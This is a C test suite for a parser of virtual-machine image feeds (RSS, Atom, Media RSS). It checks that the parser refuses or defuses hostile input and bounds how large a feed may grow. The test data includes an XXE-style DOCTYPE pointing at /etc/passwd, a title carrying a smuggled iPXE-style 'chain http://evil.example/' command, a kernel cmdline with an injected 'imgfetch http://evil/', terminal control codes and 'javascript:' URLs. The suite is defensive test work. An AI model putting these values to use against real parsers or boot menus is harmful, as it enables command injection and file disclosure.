/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Feeds as they are in the wild are read; hostile ones are refused, or defused, within bounds (F17, F18, F21). Run from the top folder. */
#include "feed.h"

#include "log.h"
#include "tap.h"

#include <errno.h>
#include <iconv.h>
#include <stdlib.h>
#include <time.h>

#define HEAD      "<rss version='2.0' xmlns:vmcast='urn:vmcast:1'><channel><title>T</title>"
#define TAIL      "</channel></rss>"
#define ENCLOSURE "<enclosure url='http://h/d.img'/>"
#define DIGITS    "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
#define IMAGE     " id='" DIGITS "' index='i' image='j' index_bytes='1' image_bytes='2' disk_bytes='3'"
#define MEDIA     "http://search.yahoo.com/mrss/"

static const struct feed_limits limits = { 16 << 20, 10000 };

static int parse(struct feed **out, const char *xml, struct err *err)
{
	*err = (struct err){ 0 };
	return feed_parse(out, xml, strlen(xml), &limits, err);
}

static struct feed *parse_file(const char *name, struct err *err)
{
	char path[256];
	struct feed *feed = NULL;
	static char xml[1 << 20];

	snprintf(path, sizeof(path), "tests/data/feeds/%s", name);
	FILE *file = fopen(path, "r");
	size_t len = file ? fread(xml, 1, sizeof(xml), file) : 0;
	if (file)
		fclose(file);
	*err = (struct err){ 0 };
	feed_parse(&feed, xml, len, &limits, err);
	return feed;
}

static void test_own(void)
{
	struct err err;
	struct feed *feed = parse_file("vmcast.xml", &err);

	if (!ok(feed, "our own elements are read %s", err.text))
		return;
	is_str(feed->title, "Lab images", "the channel's title, not its image's");
	is_str(feed->uuid, "0d1f7a6e-8f6f-4b9c-9d2b-0a3f2f1f6c11", "its uuid");
	is_str(feed->link, "http://images.example/", "its link, not one in another namespace");
	is_str(feed->language, "en", "its language");
	is_int(feed->item_count, 2, "both items");
	is_int(feed->note_count, 0, "and nothing to note");
	const struct feed_item *item = &feed->items[0];
	is_str(item->uuid, "5b7e6a52-6d0a-4e5f-9a0e-3d8f7f3c1a01", "an item's uuid");
	is_str(item->title, "Debian 12 & tools", "its title");
	is_str(item->description, "Debian 12, minimal.\nSerial console on.", "its description, without HTML");
	is_int(item->published, 1795253400, "its date");
	is_str(item->url, "debian-12.raw.zst", "its URL as it was written");
	is_str(item->type, "application/zstd", "its type");
	is_int(item->length, 100458623, "its length");
	ok(item->has_digest && item->digest[0] == 0x9f && item->digest[31] == 0x08, "its digest");
	is_str(item->arch, "x86_64", "its architecture, by the name we use");
	is_str(item->firmware, "uefi", "its firmware");
	is_int(item->disk_bytes_min, 4ll << 30, "the disk it needs");
	is_int(item->memory_bytes_min, 512 << 20, "the memory it needs");
	is_str(item->landing, "disk", "its landing");
	is_str(item->cmdline, "console=ttyS0,115200 quiet", "its command line");
	item = &feed->items[1];
	is_str(item->uuid, "urn:example:2", "a guid serves as uuid");
	ok(!item->has_digest && !item->arch && !item->firmware && item->length == 0, "what is missing is unknown");
	feed_free(&feed);
}

static void test_dialects(void)
{
	struct err err;
	struct feed *feed = parse_file("dialect-xvm2.xml", &err);

	if (ok(feed && feed->item_count == 2, "attributes in single quotes, CDATA with HTML %s", err.text)) {
		is_str(feed->description, "Appliances\nof the team", "HTML in the channel's description");
		is_str(feed->items[0].description, "Postfix & Dovecot\non Debian", "HTML in an item's");
		is_int(feed->items[0].published, 1363787416, "2013-03-20 13:50:16.123456 is a date");
		is_str(feed->items[0].type, "application/enomalism2-xvm2", "its type is kept");
		is_str(feed->items[1].title, feed->items[0].title, "titles may repeat");
	}
	feed_free(&feed);
	feed = parse_file("dialect-xvm.xml", &err);
	if (ok(feed && feed->item_count == 1, "the other dialect %s", err.text)) {
		is_str(feed->title, "Xen images", "CDATA with HTML in a title");
		is_str(feed->items[0].uuid, "http://xen.example/web-1", "guid instead of uuid");
		is_int(feed->items[0].published, 1363805400, "a year of two digits, a zone by name");
	}
	feed_free(&feed);
}

static bool has_note(const struct feed *feed, const char *part)
{
	for (size_t i = 0; i < feed->note_count; i++) {
		if (strstr(feed->notes[i].text, part))
			return true;
	}
	return false;
}

static void test_atom(void)
{
	struct err err;
	struct feed *feed = parse_file("atom.xml", &err);

	if (!ok(feed && feed->item_count == 2, "Atom is read %s", err.text))
		return;
	is_str(feed->form, "Atom 1.0", "and told from RSS");
	is_str(feed->title, "Nightly images", "its title");
	is_str(feed->description, "What the build farm made", "its subtitle, without HTML");
	is_str(feed->link, "http://farm.example/", "its link, not that to itself");
	is_str(feed->uuid, "urn:uuid:60a76c80-d399-11d9-b93c-0003939e0af6", "its id");
	const struct feed_item *item = &feed->items[0];
	is_int(item->line, 10, "an entry's line");
	is_str(item->uuid, "urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a", "its id, not its source's");
	is_str(item->title, "Debian nightly", "its title");
	is_str(item->url, "nightly/debian.qcow2", "its enclosure");
	is_str(item->type, "application/x-qemu-disk", "its type");
	is_int(item->length, 352321536, "its length");
	if (is_int(item->mirror_count, 1, "its mirror"))
		is_str(item->mirrors[0].url, "http://mirror.example/debian.qcow2", "in order");
	is_str(item->link, "http://farm.example/debian", "its link");
	is_int(item->published, 1795064400, "when it was published, not when it was updated");
	is_str(item->description, "Built from sid.\nRoot has no password.", "XHTML as lines of text");
	if (is_int(item->category_count, 2, "its categories"))
		is_str(item->categories[0], "debian", "by their terms");
	is_int(item->memory_bytes_min, 1 << 30, "our own elements are read in Atom as well");
	item = &feed->items[1];
	is_str(item->title, "Firmware & tools", "HTML in a title");
	is_str(item->description, "For laptops", "the summary");
	is_int(item->published, 1794960000, "without a date of publication that of the update");
	ok(!item->link, "an id is no link");
	ok(has_note(feed, "'News, no image' left out: it has no enclosure"), "an entry without an image is left out");
	is_int(feed->notes[0].line, 33, "and the note says where");
	feed_free(&feed);
}

static void test_media(void)
{
	struct err err;
	struct feed *feed = parse_file("media.xml", &err);

	if (!ok(feed && feed->item_count == 4, "Media RSS is read %s", err.text))
		return;
	is_int(feed->ttl_s, 5400, "the channel's ttl");
	is_int(feed->skip_hours, 1 << 0 | 1 << 1 | 1 << 23, "the hours to skip");
	is_int(feed->skip_days, 1 << 0 | 1 << 6, "the days to skip");
	const struct feed_item *item = &feed->items[0];
	is_str(item->url, "mail.ova", "the default of a group comes first");
	ok(item->has_digest && item->digest[0] == 0x9f, "with its hash");
	if (is_int(item->mirror_count, 1, "the others are mirrors, a picture is none")) {
		is_str(item->mirrors[0].url, "mail-ftp.ova", "in order");
		ok(!item->mirrors[0].has_digest, "a hash is of its own content only");
	}
	is_str(item->link, "http://media.example/mail", "a guid is a link");
	is_int(item->category_count, 2, "its categories");
	ok(has_note(feed, "item 1: has a media:hash that is not sha-256"), "MD5 is not trusted");
	ok(has_note(feed, "item 1: enclosure 3 left out: its media:content is image"), "the picture is noted");
	item = &feed->items[1];
	is_str(item->uuid, "two", "an item for two architectures keeps its uuid for its own");
	is_str(item->url, "two-amd64.img", "with its enclosure");
	ok(item->has_digest && item->length == 2048, "whose digest Media RSS says");
	is_int(item->mirror_count, 0, "the same URL twice is one place");
	ok(!item->link && !item->arch, "a guid that is no link is none");
	item = &feed->items[2];
	is_str(item->uuid, "two#aarch64", "for the other one it is another item");
	is_str(item->arch, "aarch64", "for those machines");
	is_str(item->url, "two-arm64.img", "with their enclosure");
	is_int(item->mirror_count, 1, "and its mirror");
	is_int(item->memory_bytes_min, 2ll << 30, "and what is said of both");
	ok(!item->has_digest, "but no digest of the other's bytes");
	ok(has_note(feed, "'A film' left out: its media:content is video"), "a film is no image");
	item = &feed->items[3];
	if (is_int(item->disk_count, 2, "an item in the deployable form has its disks")) {
		is_str(item->disks[0].index_url, "ready/index", "index");
		is_str(item->disks[0].image_url, "ready/image.zst", "image");
		ok(item->disks[0].id[0] == 0x9f && item->disks[1].id[0] == 0x0f, "ids, in order");
		ok(item->disks[0].index_bytes == 312 && item->disks[0].image_bytes == 4096 &&
			   item->disks[0].disk_bytes == 1 << 20,
		   "sizes");
		is_str(item->disks[0].name, "system", "name");
		is_str(item->disks[0].bus, "virtio", "bus");
		ok(!item->disks[1].name && !item->disks[1].bus, "which need not be said");
	}
	feed_free(&feed);
}

static void test_hostile_items(void)
{
	static const char *const left_out[] = {
		"'no enclosure' left out: it has no enclosure",
		"'gopher' left out: its enclosure's scheme 'gopher'",
		"'negative' left out: its enclosure's length '-1'",
		"'half a digest' left out: its digest",
		"'weak digest' left out: its digest",
		"'two digests' left out: it has more than one vmcast:digest",
		"'empty digest' left out",
		"'line in the URL' left out",
		"'reordered uuid' left out",
		"'other machine' left out: its architecture 'vax'",
		"'size' left out: its disk '-4G'",
		"'again' left out: its uuid came before",
	};
	struct err err;
	struct feed *feed = parse_file("hostile.xml", &err);

	if (!ok(feed && feed->item_count == 2, "what can be used of a hostile feed is used %s", err.text))
		return;
	is_str(feed->title, "${menu-title}evil", "no overrides in a title");
	is_str(feed->items[0].title, "${net0/mac} && shell || exit chain http://evil.example/",
	       "a title is one line; its quoting is the menu's business");
	is_str(feed->items[1].title, "[2Jred31m", "no control codes, however they were written");
	for (size_t i = 0; i < sizeof(left_out) / sizeof(left_out[0]); i++)
		ok(has_note(feed, left_out[i]), "item %s", left_out[i]);
	feed_free(&feed);
}

static void test_refused_documents(void)
{
	static const struct {
		const char *xml;
		int code;
		const char *said;
	} cases[] = {
		{ "", -EBADMSG, "no XML" },
		{ "not XML", -EBADMSG, "no XML" },
		{ "<html><body/></html>", -EBADMSG, "begins with <html>" },
		{ "<feed/>", -EBADMSG, "begins with <feed>" },
		{ "<feed xmlns='http://purl.org/atom/ns#'/>", -EBADMSG, "begins with <feed>" },
		{ "<feed xmlns='http://www.w3.org/2005/Atom'><entry>", -EBADMSG, "not well-formed" },
		{ "<!DOCTYPE feed><feed xmlns='http://www.w3.org/2005/Atom'/>", -EBADMSG, "DOCTYPE" },
		{ "\xff\xfe<", -EBADMSG, "byte 0 is not UTF-16LE" },
		{ "<?xml version='1.0' encoding='Shift_JIS'?><rss>\x82", -EBADMSG, "byte 47 is not Shift_JIS" },
		{ "<?xml version='1.0' encoding='ISO-2022-JP'?>" HEAD TAIL, -ENOTSUP, "encoding 'ISO-2022-JP'" },
		{ "<rss version='2.0'/>", -EBADMSG, "no <channel>" },
		{ HEAD, -EBADMSG, "not well-formed" },
		{ HEAD "</rss></channel>", -EBADMSG, "line 1" },
		{ HEAD TAIL "<rss/>", -EBADMSG, "not well-formed" },
		{ HEAD "<item>&unknown;</item>" TAIL, -EBADMSG, "not well-formed" },
		{ HEAD "<item>\x1b</item>" TAIL, -EBADMSG, "not well-formed" },
		{ HEAD "<item>&#27;</item>" TAIL, -EBADMSG, "not well-formed" },
		{ HEAD "<item>\xff\xfe</item>" TAIL, -EBADMSG, "not well-formed" },
		{ "<!DOCTYPE rss>" HEAD TAIL, -EBADMSG, "DOCTYPE" },
		{ "<!DOCTYPE rss SYSTEM 'file:///etc/passwd'>" HEAD TAIL, -EBADMSG, "DOCTYPE" },
		{ "<!DOCTYPE rss [<!ENTITY a 'b'>]>" HEAD "&a;" TAIL, -EBADMSG, "DOCTYPE" },
		{ "<?xml version='1.0' encoding='UTF-7'?>" HEAD TAIL, -ENOTSUP, "encoding 'UTF-7'" },
		{ "<?xml version='1.0' encoding='EBCDIC-US'?>" HEAD TAIL, -ENOTSUP, "encoding" },
		{ "<?xml version='1.0' encoding='ISO-2022-CN-EXT'?>" HEAD TAIL, -ENOTSUP, "encoding" },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct feed *feed = NULL;
		char shown[256];
		struct err err;

		is_int(parse(&feed, cases[i].xml, &err), cases[i].code, log_quote(shown, sizeof(shown), cases[i].xml));
		ok(strstr(err.text, cases[i].said) && !feed, "and says '%s': %s", cases[i].said, err.text);
		feed_free(&feed);
	}
	struct err err;
	struct feed *feed = parse_file("entities.xml", &err);
	ok(!feed && strstr(err.text, "DOCTYPE"), "a document of entities is refused where its DTD begins: %s",
	   err.text);
	feed_free(&feed);
}

static void test_encodings(void)
{
	static const char *const cases[][2] = {
		{ "<?xml version='1.0' encoding='utf-8'?><rss><channel><title>\xc3\xa9</title></channel></rss>",
		  "\xc3\xa9" },
		{ "\xef\xbb\xbf<rss><channel><title>\xc3\xa9</title></channel></rss>", "\xc3\xa9" },
		{ "<?xml version='1.0' encoding='ISO-8859-1'?><rss><channel><title>\xe9</title></channel></rss>",
		  "\xc3\xa9" },
		{ "<?xml version=\"1.0\" encoding = \"windows-1252\" "
		  "?><rss><channel><title>\x80</title></channel></rss>",
		  "\xe2\x82\xac" },
		{ "<r:rss xmlns:r='u:r'><r:channel><r:title>in a namespace</r:title></r:channel></r:rss>",
		  "in a namespace" },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct feed *feed = NULL;
		char shown[256];
		struct err err;

		parse(&feed, cases[i][0], &err);
		is_str(feed ? feed->title : err.text, cases[i][1], log_quote(shown, sizeof(shown), cases[i][0]));
		feed_free(&feed);
	}
}

static char *repeat(const char *head, const char *piece, size_t count, const char *tail);

/* Each encoding against the C library's own converter, in a document longer than what is parsed at a time. */
static void test_all_encodings(void)
{
	static const struct {
		const char *name, *declared, *title; /* declared NULL: the first bytes say it */
	} cases[] = {
		{ "UTF-16", NULL,
		  "Gr\xc3\xb6\xc3\x9f"
		  "e \xf0\x9f\x92\xbe" },
		{ "UTF-16LE", "UTF-16", "\xe6\x97\xa5\xe6\x9c\xac" },
		{ "UTF-16BE", NULL, "\xe6\x97\xa5\xe6\x9c\xac" },
		{ "UTF-32LE", "UTF-32", "\xe6\x97\xa5" },
		{ "ISO-8859-2", "iso-8859-2", "\xc5\x82\xc3\xb3\xc5\xbc" },
		{ "ISO-8859-5", "ISO-8859-5", "\xd0\x94\xd0\xb0" },
		{ "ISO-8859-7", "ISO-8859-7", "\xce\xb1\xce\xb2" },
		{ "ISO-8859-15", "ISO-8859-15", "\xe2\x82\xac" },
		{ "CP1251", "windows-1251", "\xd0\x94\xd0\xb0" },
		{ "CP1252", "Windows-1252", "\xe2\x80\x94\xe2\x82\xac" },
		{ "KOI8-R", "koi8-r", "\xd0\x94\xd0\xb0" },
		{ "SHIFT_JIS", "Shift_JIS", "\xe6\x97\xa5\xe6\x9c\xac\xe3\x82\xbd" },
		{ "EUC-JP", "EUC-JP", "\xe6\x97\xa5\xe6\x9c\xac" },
		{ "EUC-KR", "euc-kr", "\xed\x95\x9c\xea\xb5\xad" },
		{ "GB18030", "GB18030", "\xe4\xb8\xad\xe6\x96\x87" },
		{ "BIG5", "Big5", "\xe4\xb8\xad\xe6\x96\x87" },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char head[200] = "<?xml version='1.0'?>", *encoded = calloc(1, 400000), *to = encoded;
		size_t to_left = 400000;
		struct feed *feed = NULL;
		struct err err = { 0 };

		if (cases[i].declared)
			snprintf(head, sizeof(head), "<?xml version='1.0' encoding='%s'?>", cases[i].declared);
		strcat(head, "<rss><channel><description>");
		/* An odd number of bytes, so that characters lie across where the document is cut. */
		char *filled = repeat(head, cases[i].title, 6001, "x</description><title>");
		char *xml = repeat(filled, cases[i].title, 1, "</title></channel></rss>");
		char *from = xml;
		size_t from_left = strlen(xml);
		iconv_t converter = iconv_open(cases[i].name, "UTF-8");
		iconv(converter, &from, &from_left, &to, &to_left);
		iconv_close(converter);
		feed_parse(&feed, encoded, (size_t)(to - encoded), &limits, &err);
		is_str(feed ? feed->title : err.text, cases[i].title, cases[i].name);
		ok(feed && feed->note_count == 1, "%s: the long description is cut, not garbled", cases[i].name);
		feed_free(&feed);
		free(filled);
		free(xml);
		free(encoded);
	}
}

/* `count` copies of `piece` between `head` and `tail`. Caller frees. */
static char *repeat(const char *head, const char *piece, size_t count, const char *tail)
{
	size_t piece_len = strlen(piece);
	char *xml = malloc(strlen(head) + count * piece_len + strlen(tail) + 1);
	char *at = stpcpy(xml, head);

	for (size_t i = 0; i < count; i++)
		at = stpcpy(at, piece);
	strcpy(at, tail);
	return xml;
}

static void refuses(char *xml, int code, const char *said, const char *what)
{
	struct timespec begin, end;
	struct feed *feed = NULL;
	struct err err;

	clock_gettime(CLOCK_THREAD_CPUTIME_ID, &begin);
	is_int(parse(&feed, xml, &err), code, what);
	clock_gettime(CLOCK_THREAD_CPUTIME_ID, &end);
	ok(strstr(err.text, said), "and says so: %s", err.text);
	ok(end.tv_sec - begin.tv_sec < 5, "soon enough");
	feed_free(&feed);
	free(xml);
}

/* A document with `count` names that are all different, as elements or as attributes. */
static char *many_names(const char *head, const char *form, size_t count, const char *tail)
{
	size_t room = strlen(head) + count * (strlen(form) + 8) + strlen(tail) + 1;
	char *xml = malloc(room), *at = stpcpy(xml, head);

	for (size_t i = 0; i < count; i++)
		at += sprintf(at, form, i);
	strcpy(at, tail);
	return xml;
}

/* Each of these took minutes or gigabytes without the limit that now stops it. */
static void test_limits(void)
{
	struct feed_limits small = { 16 << 20, 3 };
	struct feed *feed = NULL;
	struct err err;

	refuses(repeat(HEAD, "<item>" ENCLOSURE "</item>", 100000, TAIL), -EFBIG, "feed_items_max", "100,000 items");
	refuses(repeat(HEAD, "<x/>", 5000000, TAIL), -EFBIG, "feed_bytes_max", "20 MB");
	refuses(repeat(HEAD, "<a>", 1000000, ""), -EFBIG, "deep", "a million elements inside each other");
	refuses(many_names(HEAD "<x ", "a%zx='' ", 1000000, "/>" TAIL), -EFBIG, "longer than", "a million attributes");
	refuses(many_names(HEAD "<x ", "a%zx='' ", 100, "/>" TAIL), -EFBIG, "attributes", "a hundred attributes");
	refuses(many_names(HEAD "<x ", "xmlns:a%zx='u' ", 200, "/>" TAIL), -EFBIG, "namespaces", "200 namespaces");
	refuses(many_names(HEAD, "<a%zx/>", 1000000, TAIL), -EFBIG, "names", "a million different names");
	refuses(repeat(HEAD "<!--", "x", 10000000, "-->" TAIL), -EFBIG, "longer than", "a comment of 10 MB");

	char *xml = repeat(HEAD, "<item>" ENCLOSURE "</item>", 3, TAIL);
	is_int(feed_parse(&feed, xml, strlen(xml), &small, &err), 0, "as many items as the limit are fine");
	feed_free(&feed);
	small.bytes_max = strlen(xml);
	is_int(feed_parse(&feed, xml, strlen(xml), &small, &err), 0, "as many bytes, too");
	feed_free(&feed);
	small.bytes_max--;
	is_int(feed_parse(&feed, xml, strlen(xml), &small, &err), -EFBIG, "one byte more is refused");
	free(xml);
}

static void test_long_texts(void)
{
	char *xml = repeat(HEAD "<item><title>", "\xc3\xa9", 100000, "</title><uuid>1</uuid>" ENCLOSURE "</item>" TAIL);
	struct feed *feed = NULL;
	struct err err;

	is_int(parse(&feed, xml, &err), 0, "a title of 200 kB does not harm the feed");
	is_int(feed ? strlen(feed->items[0].title) : 0, FEED_TEXT_MAX, "it is cut");
	ok(feed && has_note(feed, "title is longer"), "and that is noted");
	feed_free(&feed);
	free(xml);

	xml = repeat(HEAD "<item><uuid>", "u", 2000, "</uuid>" ENCLOSURE "</item>" TAIL);
	parse(&feed, xml, &err);
	ok(feed && feed->item_count == 0 && has_note(feed, "uuid is longer"), "a long uuid is refused, not cut");
	feed_free(&feed);
	free(xml);

	xml = repeat(HEAD "<item><uuid>1</uuid><enclosure url='http://h/", "u", 5000, "'/></item>" TAIL);
	parse(&feed, xml, &err);
	ok(feed && feed->item_count == 0 && has_note(feed, "URL is longer"), "a long URL, too");
	feed_free(&feed);
	free(xml);

	xml = repeat(HEAD, "<item/>", 5000, TAIL);
	parse(&feed, xml, &err);
	ok(feed && feed->note_count == 101 && has_note(feed, "4900 more"), "the notes themselves are bounded");
	feed_free(&feed);
	free(xml);
}

/* What is refused of an RSS enclosure is refused of an Atom link and of a media:content, too. */
static void test_every_dialect_refuses_the_same(void)
{
	static const char *const forms[] = {
		HEAD "<item><guid>1</guid><enclosure url='%s' length='%s' vmcast:digest='%s'/></item>" TAIL,
		HEAD "<item><guid>1</guid><m:content xmlns:m='" MEDIA
		     "' url='%s' fileSize='%s' vmcast:digest='%s'/></item>" TAIL,
		HEAD "<item><guid>1</guid><m:group xmlns:m='" MEDIA
		     "'><m:content url='%s' fileSize='%s' vmcast:digest='%s'/></m:group></item>" TAIL,
		"<feed xmlns='http://www.w3.org/2005/Atom' "
		"xmlns:vmcast='urn:vmcast:1'><title>T</title><entry><id>1</id>"
		"<link rel='enclosure' href='%s' length='%s' vmcast:digest='%s'/></entry></feed>",
	};
	static const struct {
		const char *url, *length, *digest, *said;
	} cases[] = {
		{ "d", "1", "sha256:" DIGITS, NULL },
		{ "gopher://h/", "1", "sha256:" DIGITS, "scheme 'gopher'" },
		{ "", "1", "sha256:" DIGITS, "no URL" },
		{ "http://h/&#10;x", "1", "sha256:" DIGITS, "must be written as %0A" },
		{ "d", "-1", "sha256:" DIGITS, "length '-1'" },
		{ "d", "99999999999999999999", "sha256:" DIGITS, "no number of bytes" },
		{ "d", "1", "md5:1234", "does not begin with 'sha256:'" },
		{ "d", "1", "", "vmcast:digest is empty" },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		for (size_t k = 0; k < sizeof(forms) / sizeof(forms[0]); k++) {
			struct feed *feed = NULL;
			char xml[1024];
			struct err err;

			snprintf(xml, sizeof(xml), forms[k], cases[i].url, cases[i].length, cases[i].digest);
			parse(&feed, xml, &err);
			is_int(feed ? feed->item_count : 99, !cases[i].said,
			       cases[i].said ? cases[i].said : "a good one");
			ok(!cases[i].said || (feed && has_note(feed, cases[i].said)), "and why, in form %zu", k);
			feed_free(&feed);
		}
	}
}

/* More of anything than an item may have. */
static void test_numbers_of_things(void)
{
	char *xml =
		repeat(HEAD "<item><uuid>1</uuid>", "<enclosure url='d'/><category>c</category>", 100, "</item>" TAIL);
	struct feed *feed = NULL;
	struct err err;

	parse(&feed, xml, &err);
	if (ok(feed && feed->item_count == 1, "a hundred enclosures and categories do not harm the item")) {
		is_int(feed->items[0].mirror_count, 0, "the same one a hundred times is one");
		is_int(feed->items[0].category_count, FEED_CATEGORIES_MAX, "categories are bounded");
		ok(has_note(feed, "84 enclosures more than 16") && has_note(feed, "68 categories more than 32"),
		   "and what is left out is noted");
	}
	feed_free(&feed);
	free(xml);
	xml = repeat(HEAD "<item>" ENCLOSURE, "<vmcast:image" IMAGE "/>", 65, "</item>" TAIL);
	parse(&feed, xml, &err);
	ok(feed && feed->item_count == 0 && has_note(feed, "more than 64 vmcast:image"),
	   "an item of too many disks is left out whole");
	feed_free(&feed);
	free(xml);
}

static void test_urls(void)
{
	static const struct {
		const char *url;
		bool good;
	} cases[] = {
		{ "http://h/d", true },
		{ "HTTPS://h/d", true },
		{ "file:///srv/d", true },
		{ "d.img", true },
		{ "../d.img", true },
		{ "/d.img", true },
		{ "//h/d.img", true },
		{ "a/b:c", true },
		{ "d.img?x=a:b", true },
		{ "ftp://h/d", false },
		{ "javascript:1", false },
		{ "data:,x", false },
		{ "http://h/a b", false },
		{ "http:\\\\h\\d", false },
		{ "", false },
		{ "http://h/\xe2\x80\xae", false },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct feed *feed = NULL;
		char xml[512], shown[256];
		struct err err;

		snprintf(xml, sizeof(xml), HEAD "<item><enclosure url='%s'/></item>" TAIL, cases[i].url);
		parse(&feed, xml, &err);
		is_int(feed ? feed->item_count : 99, cases[i].good, log_quote(shown, sizeof(shown), cases[i].url));
		feed_free(&feed);
	}
}

static void test_words(void)
{
	static const struct {
		const char *element;
		bool good;
	} cases[] = {
		{ "<vmcast:digest>sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08</"
		  "vmcast:digest>",
		  true },
		{ "<vmcast:digest> "
		  "SHA256:9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08\n</vmcast:digest>",
		  true },
		{ "<vmcast:digest>9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08</vmcast:digest>",
		  false },
		{ "<vmcast:digest>sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a0</"
		  "vmcast:digest>",
		  false },
		{ "<vmcast:digest>sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 "
		  "</vmcast:digest>",
		  true },
		{ "<vmcast:digest>sha256:xf86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08</"
		  "vmcast:digest>",
		  false },
		{ "<vmcast:digest>sha512:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08</"
		  "vmcast:digest>",
		  false },
		{ "<digest>of another namespace</digest>", true },
		{ "<vmcast:unknown>of a later version</vmcast:unknown>", true },
		{ "<vmcast:architecture>ARM64</vmcast:architecture>", true },
		{ "<vmcast:architecture></vmcast:architecture>", false },
		{ "<vmcast:firmware>bios uefi</vmcast:firmware>", true },
		{ "<vmcast:firmware>coreboot</vmcast:firmware>", false },
		{ "<vmcast:landing>kexec</vmcast:landing>", true },
		{ "<vmcast:landing>moon</vmcast:landing>", false },
		{ "<vmcast:memory>1.5G</vmcast:memory>", false },
		{ "<vmcast:disk>20 G</vmcast:disk>", false },
		{ "<vmcast:cmdline>quiet\nimgfetch http://evil/</vmcast:cmdline>", false },
		{ "<vmcast:cmdline>a</vmcast:cmdline><vmcast:cmdline>b</vmcast:cmdline>", false },
		{ "<vmcast:image" IMAGE "/>", true },
		{ "<vmcast:image" IMAGE " bus='scsi'/>", true },
		{ "<vmcast:image" IMAGE " bus='usb'/>", false },
		{ "<vmcast:image" IMAGE "/><vmcast:image index='i' image='j'/>", false },
		{ "<vmcast:image id='" DIGITS "' index='i' image='j' index_bytes='1' image_bytes='2'/>", false },
		{ "<vmcast:image id='" DIGITS "' index='i' image='j' index_bytes='1' image_bytes='2' disk_bytes='0'/>",
		  false },
		{ "<vmcast:image id='" DIGITS "' index='i' image='j' index_bytes='1' image_bytes='-2' disk_bytes='1'/>",
		  false },
		{ "<vmcast:image id='" DIGITS "' index='ftp://h/i' image='j' index_bytes='1' image_bytes='2' "
		  "disk_bytes='1'/>",
		  false },
		{ "<vmcast:image id='1234' index='i' image='j' index_bytes='1' image_bytes='2' disk_bytes='1'/>",
		  false },
		{ "<m:content url='x' xmlns:m='" MEDIA "'><m:hash algo='sha-256'>" DIGITS "</m:hash></m:content>",
		  true },
		{ "<m:hash algo='sha-256' xmlns:m='" MEDIA "'>" DIGITS "</m:hash>", true },
		{ "<m:content url='d2.img' xmlns:m='" MEDIA "'><m:hash algo='sha-256'>" DIGITS
		  "</m:hash><m:hash algo='sha-256'>" DIGITS "</m:hash></m:content>",
		  false },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct feed *feed = NULL;
		char xml[1024], shown[256];
		struct err err;

		snprintf(xml, sizeof(xml), HEAD "<item>" ENCLOSURE "%s</item>" TAIL, cases[i].element);
		parse(&feed, xml, &err);
		is_int(feed ? feed->item_count : 99, cases[i].good, log_quote(shown, sizeof(shown), cases[i].element));
		feed_free(&feed);
	}
}

/* Elements of other vocabularies that have the names of ours are not ours. */
static void test_namespaces(void)
{
	struct feed *feed = NULL;
	struct err err;

	parse(&feed,
	      HEAD "<item><x:title xmlns:x='u:x'>not it</x:title><title>it</title><x:enclosure xmlns:x='u:x' "
		   "url='http://x/'/>"
		   "<x:uuid xmlns:x='u:x'>not it</x:uuid>" ENCLOSURE "<title xmlns='u:y'>nor this</title></item>" TAIL,
	      &err);
	if (!ok(feed && feed->item_count == 1 && feed->note_count == 0, "one item %s", err.text))
		return;
	is_str(feed->items[0].title, "it", "its title");
	is_str(feed->items[0].url, "http://h/d.img", "its enclosure");
	is_str(feed->items[0].uuid, "http://h/d.img", "its uuid");
	feed_free(&feed);
}

static void test_references_in_attributes(void)
{
	struct feed *feed = NULL;
	struct err err;

	parse(&feed, HEAD "<item><enclosure url='d?a=1&amp;b=&#x32;' type='a/&lt;b'/></item>" TAIL, &err);
	if (ok(feed && feed->item_count == 1, "one item %s", err.text))
		is_str(feed->items[0].url, "d?a=1&b=2", "references in attributes are resolved");
	feed_free(&feed);
}

/* A feed cut off anywhere is no feed: half a catalog must not replace a whole one. */
static void test_truncated(void)
{
	static char xml[1 << 16];
	FILE *file = fopen("tests/data/feeds/vmcast.xml", "r");
	size_t len = file ? fread(xml, 1, sizeof(xml), file) : 0, accepted = 0;

	if (file)
		fclose(file);
	while (len && xml[len - 1] != '>')
		len--;
	for (size_t cut = 0; cut < len; cut++) {
		struct feed *feed = NULL;
		struct err err;

		accepted += feed_parse(&feed, xml, cut, &limits, &err) == 0;
		feed_free(&feed);
	}
	ok(len > 1000 && accepted == 0, "truncated after any of %zu bytes: refused", len);
}

int main(void)
{
	test_own();
	test_dialects();
	test_atom();
	test_media();
	test_hostile_items();
	test_refused_documents();
	test_encodings();
	test_all_encodings();
	test_limits();
	test_long_texts();
	test_every_dialect_refuses_the_same();
	test_numbers_of_things();
	test_urls();
	test_words();
	test_namespaces();
	test_references_in_attributes();
	test_truncated();
	return done_testing();
}
